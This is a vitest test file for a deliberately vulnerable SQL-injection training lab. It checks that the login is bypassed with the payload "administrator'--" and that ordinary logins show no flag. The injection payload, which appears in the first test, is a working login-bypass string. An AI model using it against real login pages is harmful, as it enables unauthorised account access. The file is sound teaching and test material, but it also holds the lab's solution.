import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

describe('lab web-sqli-login-bypass', () => {
  let lab: Awaited<ReturnType<typeof startTestLab>>;
  afterEach(() => lab.close());

  it('is solved by ending the username string and commenting out the password check', async () => {
    lab = await startTestLab('web-sqli-login-bypass');
    const home = await lab.get('/');
    expect(home.body).toContain('action="login"');
    const answer = await lab.post('/login', { username: "administrator'--", password: 'anything' });
    expect(answer.status).toBe(200);
    expect(answer.body).toContain('Admin dashboard');
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it('refuses the administrator without the injection, and shows no flag to an ordinary login', async () => {
    lab = await startTestLab('web-sqli-login-bypass');
    const wrong = await lab.post('/login', { username: 'administrator', password: 'guess' });
    expect(wrong.status).toBe(401);
    expect(wrong.body).not.toContain(lab.flag);
    const wiener = await lab.post('/login', { username: 'wiener', password: 'peter' });
    expect(wiener.body).toContain('Signed in as <strong>wiener</strong>');
    expect(wiener.body).not.toContain(lab.flag);
  });
});
